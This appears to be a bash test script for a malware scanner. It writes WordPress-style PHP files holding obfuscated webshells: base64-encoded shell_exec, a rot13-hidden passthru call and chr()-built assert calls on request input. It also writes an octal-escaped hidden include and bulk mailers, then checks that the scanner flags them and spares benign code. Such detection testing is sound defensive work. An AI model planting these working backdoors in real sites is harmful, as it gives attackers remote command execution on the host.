#!/usr/bin/env bash
# The PHP layer end to end: a WordPress-like site carrying the injections
# that compromised shared hosts really hold (written here as variants, not
# copied from samples), and the idioms of honest applications beside them.
# Files have neutral names, so nothing is found because of what a file is
# called; the JSON must name the PHP rule, its severity, the source -> sink
# path and, for decoded code, the layer.
. "$(dirname "$0")/../lib.sh"
t=$(mktemp_dir)
site=$t/home/acct/public_html
mkdir -p "$site/wp-content/themes/t1" "$site/wp-content/uploads/2026/11" "$site/wp-includes" \
	"$site/app"

# 1. an include of a path written in octal escapes, prepended to a core file
cat >"$site/f1.php" <<'EOF'
<?php
@include "\057h\157me/acct/public_html/wp-content/uploads/2026/11/\146avicon_7c1e.ico";
define( 'WPINC', 'wp-includes' );
require_once ABSPATH . WPINC . '/load.php';
EOF
# 2. base64_decode + eval appended to a theme's functions file
payload=$(printf '%s' 'if (!empty($_REQUEST["q7"])) { echo shell_exec($_REQUEST["q7"]); }' | base64 -w0)
cat >"$site/wp-content/themes/t1/f2.php" <<EOF
<?php
function t1_setup() { add_theme_support( 'title-tag' ); }
add_action( 'after_setup_theme', 't1_setup' );
eval(base64_decode('$payload'));
EOF
# 3. a callee name hidden with str_rot13
cat >"$site/wp-includes/f3.php" <<'EOF'
<?php $h = str_rot13("cnffgueh"); $h($_GET["k"]);
EOF
# 4. a callee built with chr()
cat >"$site/wp-content/uploads/2026/11/f4.php" <<'EOF'
<?php $n = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); @$n($_POST[chr(120)]);
EOF
# 5. a one-line mass mailer over an uploaded list
cat >"$site/wp-content/f5.php" <<'EOF'
<?php if(isset($_FILES['l'])){$r=file($_FILES['l']['tmp_name']);foreach($r as $a){@mail(trim($a),$_POST['s'],$_POST['m'],"From: ".$_POST['f']);}echo count($r);}
EOF
# 6. a PHPMailer bulk sender: recipients from a file next to the script
cat >"$site/app/f6.php" <<'EOF'
<?php
require 'PHPMailerAutoload.php';
$mailer = new PHPMailer;
$mailer->Subject = $_POST['subject'];
$fh = fopen(__DIR__ . '/leads.txt', 'r');
while (!feof($fh)) {
	$to = trim(fgets($fh));
	$mailer->clearAddresses();
	$mailer->addAddress($to);
	$mailer->send();
}
EOF
# 7. a folded superglobal and a callback
cat >"$site/f7.php" <<'EOF'
<?php $p = ${'_' . 'P' . 'OST'}; array_map('ass' . 'ert', array($p['z']));
EOF

# honest code beside them
cat >"$site/g1.php" <<'EOF'
<?php
$tpl = file_get_contents($cache_dir . '/compiled.tpl.php');
eval('?>' . $tpl);
exec('convert ' . escapeshellarg($_FILES['img']['tmp_name']) . ' -strip ' . escapeshellarg($dst));
EOF
cat >"$site/g2.php" <<'EOF'
<?php
$ext = strtolower(pathinfo($_FILES['f']['name'], PATHINFO_EXTENSION));
if (in_array($ext, array('jpg', 'png', 'gif'), true) && getimagesize($_FILES['f']['tmp_name'])) {
	move_uploaded_file($_FILES['f']['tmp_name'], $uploads . '/' . sha1($_FILES['f']['name']) . '.' . $ext);
}
if (current_user_can('manage_options')) {
	foreach ($wpdb->get_results("SELECT email FROM {$wpdb->prefix}subs") as $s)
		wp_mail($s->email, $_POST['subject'], $_POST['body']);
}
copy('https://downloads.example.org/release.zip', $dir . '/release.zip');
EOF
# a Markdown page and a JavaScript file that quote the words
cat >"$site/g3.md" <<'EOF'
Never write `<?php system($_GET['c']); ?>` in a page: `shell_exec($_POST['x'])` is a shell.
EOF
cat >"$site/g4.js" <<'EOF'
var example = "<?php eval($_POST['x']); ?>"; function shell_exec(x) { return x; }
EOF

hs --format json --full --rules "$SRC/rules" --signatures "$SRC/signatures" scan "$t"
check "scan: exit 1, valid JSON" sh -c "[ $RC = 1 ] && python3 -c 'import json,sys;[json.loads(l) for l in open(sys.argv[1])]' '$OUT'"

python3 - "$OUT" "$site" >"$t/results" <<'PY'
import json, sys
out, site = sys.argv[1], sys.argv[2]
F = {}
for line in open(out):
    o = json.loads(line)
    if o["type"] == "finding":
        F[o["path"]] = o
rank = {"low": 1, "medium": 2, "high": 3, "critical": 4}
def php_hits(o):
    return o.get("php", []) if o else []
cases = [
    ("f1.php", "php.obfuscated_include", "high", "favicon_7c1e.ico", 0),
    ("wp-content/themes/t1/f2.php", "php.input_to_command", "critical", "shell_exec", 1),
    ("wp-content/themes/t1/f2.php", "php.decoded_layer_exec", "medium", "layer 1", 0),
    ("wp-includes/f3.php", "php.obfuscated_callee", "high", "str_rot13", 0),
    ("wp-includes/f3.php", "php.input_to_command", "critical", "$_GET['k']", 0),
    ("wp-content/uploads/2026/11/f4.php", "php.input_to_eval", "critical", "assert", 0),
    ("wp-content/f5.php", "php.mass_mail_loop", "high", "mail", 0),
    ("app/f6.php", "php.mass_mail_loop", "high", "send", 0),
    ("f7.php", "php.input_to_eval", "critical", "$_POST['z']", 0),
]
for rel, rule, sev, ev, layer in cases:
    o = F.get(site + "/" + rel)
    hs = [h for h in php_hits(o) if h["rule"] == rule]
    name = "%s: %s (%s)" % (rel, rule, sev)
    if not hs:
        print("not ok\t%s\tgot %s" % (name, o and o.get("rules")))
        continue
    h = hs[0]
    probs = []
    if rank[h["severity"]] < rank[sev]: probs.append("severity " + h["severity"])
    if ev not in h["path"]: probs.append("path %r lacks %r" % (h["path"], ev))
    if h["layer"] != layer: probs.append("layer %d" % h["layer"])
    if rule not in o["rules"]: probs.append("not among the finding's rules")
    print(("not ok\t%s\t%s" % (name, "; ".join(probs))) if probs else "ok\t%s" % name)
# the decoded layer went through YARA and the patterns too
o = F.get(site + "/wp-content/themes/t1/f2.php")
layers = o.get("decoded_layers", []) if o else []
print(("ok\t%s" if any(l["layer"] == 1 for l in layers) else "not ok\t%s\tno rule matched on layer 1") %
      "f2.php: the decoded layer is scanned by the rules")
for rel in ("g1.php", "g2.php"):
    o = F.get(site + "/" + rel)
    print(("not ok\t%s\t%s" % (rel + ": honest code, no finding", o["rules"])) if o else
          "ok\t%s: honest code, no finding" % rel)
# Markdown and JavaScript are not PHP code: the PHP layer says nothing
# (what the YARA rules say about them is their own business)
for rel in ("g3.md", "g4.js"):
    o = F.get(site + "/" + rel)
    php = [r for r in (o["rules"] if o else []) if r.startswith("php.")]
    print(("not ok\t%s\t%s" % (rel + ": not PHP code, no php.* rule", php)) if php else
          "ok\t%s: not PHP code, no php.* rule" % rel)
PY
while IFS=$'\t' read -r status name detail; do
	if [ "$status" = ok ]; then ok "$name"; else not_ok "$name" "$detail"; fi
done <"$t/results"

# The layer can be turned off, and the verdicts change with it.
printf '[scan]\nphp_analysis = no\n' >"$t/off.conf"
hs --config "$t/off.conf" --format json --full --rules "$SRC/rules" --signatures "$SRC/signatures" \
	scan "$site/wp-includes/f3.php"
n=$(jq_py "$OUT" 'sum(1 for f in F if any(r.startswith("php.") for r in f["rules"]))')
check "php_analysis = no: no php.* rule" [ "$n" = 0 ]
exit $HS_FAILED
